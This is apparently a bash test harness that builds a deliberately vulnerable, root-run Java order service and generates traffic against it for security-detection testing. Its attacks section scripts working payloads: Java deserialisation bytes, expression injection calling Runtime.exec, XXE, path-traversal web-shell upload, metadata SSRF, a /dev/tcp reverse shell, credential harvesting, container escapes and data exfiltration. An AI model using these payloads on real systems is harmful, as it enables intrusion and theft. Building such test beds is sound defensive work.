# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# A desk that takes orders, in Java (java/Desk.java) on Debian's runtime: files, sessions, objects that users send,
# expressions, plugins, XML, tools of the shell, a peer that is told. It runs as root, as many images do.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=test containers=(java) port=8080 data_directory=/var/lib/desk
configuration_file=/etc/desk/desk.properties
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1:8080/health)
image_packages=(openjdk-17-jre-headless curl bash coreutils findutils grep gzip dash util-linux mount base-files libc-bin
	tzdata hostname)
rare_own=(thread_dump heap_dump class_histogram gc_log flight_recording new_plugin large_upload peer_gone user_added
	log_gone)
rare_not=(worker_killed) # it is one process

java=/usr/lib/jvm/java-17-openjdk-amd64/bin/java
order_ids=()

# java_tool TREE MODULE/CLASS ARGUMENT…: a tool of the runtime in the tree; / there is the tree.
java_tool() {
	# shellcheck disable=SC2016
	unshare -m sh -c 'mount -t proc proc "$1/proc" && cd / && tree=$1 && shift && exec chroot "$tree" "$@"' sh \
		"$1" "$java" -Xint -XX:+UseSerialGC "${@:2}"
}

# Debian's runtime has the compiler and the tool of archives in it. The attacker's plugin is not in the image.
image_prepare() {
	local tree=$1 i plugin data=$1/var/lib/desk
	mkdir -p "$tree"/{srv/desk,etc/desk,var/log/desk,root/.aws,root/.ssh,tmp/build} "$data"/{orders,attachments,plugins}
	cp -r "$here/services/java/." "$tree/tmp/build/"
	ln -sf /usr/share/zoneinfo/Etc/UTC "$tree/etc/localtime"
	java_tool "$tree" -Xshare:dump
	java_tool "$tree" -m jdk.compiler/com.sun.tools.javac.Main -nowarn -d /srv/desk /tmp/build/{Desk,Orders,Report}.java \
		/tmp/build/{Workspace,Expression}.java
	for plugin in tax shell; do
		java_tool "$tree" -m jdk.compiler/com.sun.tools.javac.Main -d "/tmp/build/$plugin" \
			"/tmp/build/plugins/$plugin/Plugin.java"
		java_tool "$tree" -m jdk.jartool/sun.tools.jar.Main -c -f "/tmp/build/$plugin.jar" -C "/tmp/build/$plugin" .
	done
	cp "$tree/tmp/build/tax.jar" "$data/plugins/"
	cp "$tree/tmp/build/shell.jar" "${images:?}/java.shell.jar"
	rm -rf "$tree/tmp/build"
	{
		printf '%s\n' port=8080 data=/var/lib/desk log=/var/log/desk/desk.log page=50 peer=http://peer.example:8000/orders
		for i in anna:secret bert:letmein admin:dragon4; do
			echo "user.${i%:*}=$(openssl kdf -keylen 32 -kdfopt digest:SHA256 -kdfopt "pass:${i#*:}" \
				-kdfopt "salt:${i%:*}" -kdfopt iter:1000 PBKDF2 | tr -d ':\n' | tr A-F a-f)"
		done
	} >"$tree$configuration_file"
	for i in $(seq 40); do
		printf 'customer=customer%d\nitem=item %d\namount=%d\n' $((i % 9)) "$i" "$i" >"$data/orders/$i.properties"
		seq $((i * i)) >"$data/attachments/list$i.txt"
	done
	openssl genpkey -algorithm ed25519 -out "$tree/root/.ssh/id_ed25519" 2>/dev/null
	printf '[default]\naws_secret_access_key = aws-secret-key\n' >"$tree/root/.aws/credentials"
}

container_fields() {
	arguments=("$java" -Xms32m -Xmx96m -cp /srv/desk Desk "$configuration_file")
	environment+=(HOME=/root DESK_TOKEN=token-of-the-desk)
	volumes=(/var/lib/desk /var/log/desk)
}

peers() {
	world_begin
}

ready() {
	fetch /health -o /dev/null
}

# form METHOD PATH FIELD…
form() {
	local method=$1 path=$2 f fields=()
	shift 2
	for f in "$@"; do
		fields+=(--data-urlencode "$f")
	done
	fetch "$path" -X "$method" "${fields[@]}"
}

# put PATH [CURL OPTION…]: what comes on standard input.
put() {
	local path=$1
	shift
	client_stdin curl -sS --max-time 20 --path-as-is --data-binary @- -X PUT "$@" "http://$own_address:$port$path"
}

log_in() {
	form POST /login "user=$1" "password=$2"
}

cookie() {
	echo "Cookie: session=$(log_in anna secret)"
}

new_order() {
	order_ids+=("$(form POST /orders "customer=customer$1" "item=item $1" "amount=$1")")
}

some_order() {
	if [ ${#order_ids[@]} -gt 0 ] && chance 50; then
		pick "${order_ids[@]}"
	else
		between 1 40
	fi
}

request() {
	local n
	n=$(between 1 40)
	case $((RANDOM % 18)) in
	0) fetch "/?q=$n" -o /dev/null ;;
	1 | 2) fetch "/orders/$(some_order)" ;;
	3 | 4 | 5) new_order "$n" ;;
	6) form PUT "/orders/$(some_order)" "customer=customer$n" 'item=changed' "amount=$n" ;;
	7) remove_order ;;
	8) fetch /me -H "$(cookie)" ;;
	9) take_workspace ;;
	10) fetch '/column?limit=10&expression=order.item().toUpperCase()' ;;
	11) fetch "/column?expression=@java.lang.Math@abs(order.amount())" ;;
	12) fetch /archive -X POST ;;
	13) fetch /import -X POST --data-binary "<orders><order customer=\"c$n\" amount=\"$n\">item $n</order></orders>" ;;
	14) fetch "/attachments/list$n.txt" -o /dev/null ;;
	15) seq $((n * 30)) | put "/attachments/file$((n % 6)).txt" ;;
	16) fetch /plugins/tax -X POST --data-binary "$n" ;;
	17) rare_kinds_of_work "$n" ;;
	esac
}

# What is asked for less often than the rest.
rare_kinds_of_work() {
	case $((RANDOM % 4)) in
	0) form POST /feed "url=http://peer.example:8000/items/$1" ;;
	1) log_in "$(pick anna bert)" wrong ;;
	2) fetch "/none/$1" ;;
	3) fetch /health ;;
	esac
}

# What a user keeps is taken out, and brought back.
take_workspace() {
	local session
	session=$(cookie)
	fetch /workspace -H "$session" >"$stage/workspace"
	put /workspace -H "$session" <"$stage/workspace"
}

remove_order() {
	[ ${#order_ids[@]} -gt 3 ] || return 0
	fetch "/orders/${order_ids[0]}" -X DELETE
	order_ids=("${order_ids[@]:1}")
}

# administer_desk WHAT: what only the own host may ask.
administer_desk() {
	inside_network curl -sS --max-time 30 -X POST "http://127.0.0.1:$port/admin/$1"
}

reload_service() {
	administer_desk reload
}

# The configuration is read again, and the journal is rotated.
administer() {
	local data
	data=$(volume_path java /var/lib/desk)
	reload_service
	cp "$data/journal" "$data/journal.1"
	gzip -f "$data/journal.1"
	: >"$data/journal"
}

# ---- rare events ----

# jcmd COMMAND…: an operator's tool, which the runtime listens to.
jcmd() {
	session java "$java" -XX:+UseSerialGC -m jdk.jcmd/sun.tools.jcmd.JCmd 1 "$@"
}

rare_thread_dump() {
	container_signal java QUIT
	sleep 2
}

rare_heap_dump() {
	local data
	data=$(volume_path java /var/lib/desk)
	administer_desk heap
	find "$data" -name '*.hprof' -size +100k -print -delete | grep -c .
}

rare_class_histogram() {
	jcmd GC.class_histogram | grep -c java.lang.String
}

rare_gc_log() {
	jcmd VM.log output=/var/log/desk/gc.log 'what=gc*'
	jcmd GC.run
	sleep 5
	jcmd VM.log disable
}

rare_flight_recording() {
	jcmd JFR.start name=rare filename=/var/lib/desk/rare.jfr
	sleep 5
	jcmd JFR.stop name=rare
	rm -f "$(volume_path java /var/lib/desk)/rare.jfr"
}

rare_new_plugin() {
	keep_file java /var/lib/desk/plugins/newtax.jar
	local plugins
	plugins=$(volume_path java /var/lib/desk)/plugins
	cp "$plugins/tax.jar" "$plugins/newtax.jar"
	fetch /plugins/newtax -X POST --data-binary 100
}

rare_large_upload() {
	head -c 7M /dev/urandom | put /attachments/large.bin
	fetch /attachments/large.bin -o /dev/null
}

rare_peer_gone() {
	peer_stop world
	new_order 7
	form POST /feed 'url=http://peer.example:8000/'
	sleep 3
	world_start
}

rare_user_added() {
	local file
	keep_file java "$configuration_file"
	undo reload_service
	file=$(image_path java "$configuration_file")
	sed '/^user.anna=/{p;s/anna/carl/}' "$file" >"$file.new"
	mv "$file.new" "$file"
	reload_service
	log_in carl secret
}

# The log is removed under the service.
rare_log_gone() {
	rm -f "$(volume_path java /var/log/desk)"/desk.log*
	fetch / -o /dev/null
}

# ---- attacks ----

# report_bytes COMMAND: a report that runs it, as the runtime writes such an object.
report_bytes() {
	client python3 -c 'import struct, sys
def text(s):
    return struct.pack(">H", len(s)) + s.encode()
sys.stdout.buffer.write(bytes.fromhex("aced00057372") + text("Report") + struct.pack(">q", 1) + b"\x02\0\x02"
    + b"L" + text("command") + b"t" + text("Ljava/lang/String;") + b"L" + text("title") + b"q\0\x7e\0\x01"
    + b"xp" + b"t" + text(sys.argv[1]) + b"t" + text("x"))' "$1"
}

# shell_command COMMAND: by an object that is no workspace.
shell_command() {
	report_bytes "$1" | put /workspace -H "$(cookie)"
}

evaluate() {
	fetch /column -G --data-urlencode "expression=$1" --data-urlencode limit=1
}

attack_deserialisation() {
	harm exec '/usr/bin/id'
	harm read '/etc/shadow'
	harm write '/tmp/owned'
	shell_command 'id >/tmp/owned; cat /etc/shadow >>/tmp/owned'
	grep -q '^root:' "$(image_path java /tmp/owned)"
}

attack_expression_injection() {
	harm exec '/usr/bin/id'
	harm write '/tmp/owned'
	evaluate "@java.lang.Runtime@getRuntime().exec('sh -c id>/tmp/owned')"
	until_true 10 grep -q uid=0 "$(image_path java /tmp/owned)"
}

attack_xml_entity() {
	harm read '/etc/shadow'
	fetch /import -X POST --data-binary '<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/shadow">]>
		<orders><order customer="x" amount="1">&x;</order></orders>' | grep -c 'root:'
}

# The web shell of the Java world: an archive where plugins are, uploaded and used.
attack_plugin_shell() {
	harm write '/var/lib/desk/plugins/shell.jar'
	harm exec '/usr/bin/id'
	put '/attachments/../plugins/shell.jar' <"$images/java.shell.jar"
	fetch /plugins/shell -X POST --data-binary 'id; uname -a' | grep -c uid=0
	rm "$(image_path java /var/lib/desk/plugins/shell.jar)"
}

attack_traversal() {
	harm read '/root/.aws/credentials'
	fetch /attachments/../../../../root/.aws/credentials --path-as-is | grep -c aws-secret-key
}

attack_metadata() {
	harm connect '169.254.169.254:80'
	form POST /feed 'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/desk' |
		grep -c metadata-secret-key
}

attack_reverse_shell() {
	harm exec '/usr/bin/bash'
	harm connect "$peer_address:4444"
	thief_shell 'id; exit'
	shell_command "bash -c 'bash -i >& /dev/tcp/$peer_address/4444 0>&1'"
	thief_got uid=0
}

attack_miner() {
	harm chmod '/tmp/kworker'
	harm exec '/tmp/kworker'
	harm connect "$peer_address:3333"
	armoury_begin
	shell_command "$(miner_commands /tmp/kworker)"
	pool_got
}

attack_scan() {
	harm connect "$peer_address:[2-9][0-9]"
	harm exec '/usr/bin/bash'
	# shellcheck disable=SC2016
	shell_command "bash -c 'for p in {20..90}; do echo 2>/dev/null >/dev/tcp/$peer_address/\$p && echo open \$p; done >/tmp/ports'"
	grep -q 'open 53' "$(image_path java /tmp/ports)"
}

attack_brute_force() {
	local word
	harm write '/var/lib/desk/auth.log'
	for word in {sunshine,password,monkey,dragon}{1..9}; do
		log_in admin "$word" | grep -cE '^[0-9a-f]{32}$' && return 0
	done
	return 1
}

attack_credentials() {
	harm read '/etc/shadow'
	harm read '/root/.ssh/id_ed25519'
	harm read '/proc/*/environ'
	shell_command 'cat /etc/shadow /root/.ssh/id_* /root/.aws/credentials /proc/[0-9]*/environ >/tmp/loot
		find / -xdev -name "*.pem" -o -name "*.jks" >>/tmp/loot'
	grep -aq 'PRIVATE KEY' "$(image_path java /tmp/loot)"
}

# The known ways out, one after another. Those that the runtime has shut fail; the last, a user namespace, works.
attack_escape() {
	harm call mount
	harm call unshare
	harm call setns
	# shellcheck disable=SC2016
	shell_command 'echo "|/tmp/x" >/proc/sys/kernel/core_pattern; nsenter -t 1 -m true; mkdir /tmp/m; mount -t cgroup2 none /tmp/m
		mknod /tmp/disk b 8 0; chroot /proc/1/root true
		unshare -Um sh -c "id -u; exit 7"; echo $? >/tmp/escape'
	grep -q 7 "$(image_path java /tmp/escape)"
}

# A library that the attacker uploads is loaded by an expression.
attack_native_library() {
	harm mapx '/var/lib/desk/attachments/agent.so'
	harm write '/tmp/agent'
	agent_make
	put /attachments/agent.so <"$stage/agent.so"
	evaluate "@java.lang.System@load('/var/lib/desk/attachments/agent.so')"
	grep -q loaded "$(image_path java /tmp/agent)"
}

agent_make() {
	gcc -shared -fPIC -O1 -o "$stage/agent.so" -x c - <<-'C'
	#include <stdio.h>
	__attribute__((constructor)) static void on_load(void)
	{
		FILE *f = fopen("/tmp/agent", "w");

		if (f) {
			fputs("loaded\n", f);
			fclose(f);
		}
	}
	C
}

# By code in the process: a shell.
attack_code_shell() {
	harm exec '/usr/bin/id'
	harm write '/tmp/code'
	inject_pid "${container_pid[java]}" 'handle all nostop noprint pass' 'set scheduler-locking on' \
		'call (int) system("id >/tmp/code")'
	grep -q uid=0 "$(image_path java /tmp/code)"
}

# By code in the process: a secret is read, and sent.
attack_code_connect() {
	inject_theft java Desk /root/.ssh/id_ed25519 'PRIVATE KEY'
}

# ---- attacks that only do what the service does ----

adaptive_mass_reading() {
	local i
	harm read '/var/lib/desk/orders/*'
	for i in {1..40}; do
		fetch "/orders/$i"
	done >"$stage/stolen"
	[ "$(grep -o 'Order\[' "$stage/stolen" | wc -l)" -ge 35 ]
}

adaptive_tampering() {
	local i
	harm rename '/var/lib/desk/orders/*'
	for i in {1..40}; do
		form PUT "/orders/$i" 'customer=nobody' 'item=yours no more' 'amount=0'
	done
	fetch /orders/7 | grep -c 'yours no more'
}

# Orders leave in the address of a feed of the known peer. The connection to it may be an old one.
adaptive_exfiltration() {
	local i
	harm read '/var/lib/desk/orders/*'
	for i in {1..20}; do
		form POST /feed "url=http://peer.example:8000/items/$(fetch "/orders/$i" | base64 -w 0 | tr +/ -_)"
	done >"$stage/answers"
	[ "$(grep -c path "$stage/answers")" -ge 1 ]
}

# A report of known programs alone, over all orders.
adaptive_report() {
	harm exec '/usr/bin/gzip'
	harm write '/tmp/orders*.csv'
	shell_command 'ls orders | wc -l; gzip -c orders/* >attachments/file1.txt'
	fetch /archive -X POST
	fetch /attachments/file1.txt | gzip -dc | grep -c customer=
}
